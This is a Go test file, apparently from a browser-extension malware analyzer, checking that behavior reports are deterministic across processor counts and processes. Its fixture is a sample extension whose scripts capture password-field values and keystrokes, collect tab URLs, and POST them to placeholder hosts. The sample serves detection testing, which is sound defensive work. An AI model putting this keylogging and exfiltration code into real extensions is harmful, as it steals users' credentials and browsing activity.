package analysis

import (
	"context"
	"encoding/json"
	"io/fs"
	"os"
	"runtime"
	"testing"
	"testing/fstest"

	"github.com/extwatch/extwatch/manifests"
	"github.com/extwatch/extwatch/signatures/behavior"
	"github.com/google/go-cmp/cmp"
)

// manyScripts is an extension with scripts in several contexts, some of them hidden, that talk to each other.
func manyScripts(t *testing.T) (*manifests.Manifest, fs.FS) {
	t.Helper()
	const manifest = `{"manifest_version": 2, "name": "x", "version": "1", "permissions": ["cookies", "tabs", "<all_urls>"],
		"background": {"scripts": ["a.js", "b.js"]}, "content_scripts": [{"matches": ["https://*/*"], "js": ["content.js"]}]}`
	m, err := manifests.Parse([]byte(manifest))
	if err != nil {
		t.Fatal(err)
	}
	files := fstest.MapFS{
		"manifest.json": {Data: []byte(manifest)},
		"a.js": {Data: []byte(`const state = {}; function note(k, v) { state[k] = v; } function each(l, f) { for (const x of l) f(x); }
			chrome.runtime.onMessage.addListener((m) => { note(m.kind, m.data); send("https://a.example/" + m.kind, state[m.kind]); });
			chrome.tabs.query({}, (l) => each(l, (x) => note("url", x.url)));`)},
		"b.js": {Data: []byte(`function send(to, what) { fetch(to, {method: "POST", body: JSON.stringify(what)}); }
			setInterval(() => each(Object.keys(state), (k) => send("https://b.example/" + k, state[k])), 1000);`)},
		"content.js": {Data: []byte(`for (const e of document.querySelectorAll("input[type=password]")) {
			e.addEventListener("change", () => chrome.runtime.sendMessage({kind: "p", data: e.value})); }
			document.addEventListener("keydown", (e) => chrome.runtime.sendMessage({kind: "k", data: e.key}));`)},
	}
	hidden, err := os.ReadDir("../fold/testdata/obfuscated")
	if err != nil {
		t.Fatal(err)
	}
	for _, h := range hidden {
		data, err := os.ReadFile("../fold/testdata/obfuscated/" + h.Name())
		if err != nil {
			t.Fatal(err)
		}
		files["hidden/"+h.Name()] = &fstest.MapFile{Data: data}
	}
	return m, files
}

// The same code gives the same report, whatever the machine: on one processor and on two, the second time as the first,
// and in another process, whose hashes have another seed.
func TestSameReportEverywhere(t *testing.T) {
	m, files := manyScripts(t)
	text := func(r behavior.Report) string {
		b, err := json.MarshalIndent(r, "", " ")
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	first := Analyze(context.Background(), Input{Manifest: m, Files: files})
	if len(first.Flows) < 4 || !first.Complete {
		t.Fatalf("a report that says little: %d flows, %v", len(first.Flows), first.Problems)
	}
	want := text(first)
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(1))
	for _, processors := range []int{1, 2} {
		runtime.GOMAXPROCS(processors)
		if diff := cmp.Diff(want, text(Analyze(context.Background(), Input{Manifest: m, Files: files}))); diff != "" {
			t.Errorf("on %d processors (-first +now):\n%s", processors, diff)
		}
	}
	pool := NewPool(1, []string{os.Args[0], "analysis-worker"})
	defer pool.Close()
	r, err := pool.Analyze(context.Background(), Input{Manifest: m, Files: files})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, text(r)); diff != "" {
		t.Errorf("in another process (-first +now):\n%s", diff)
	}
}
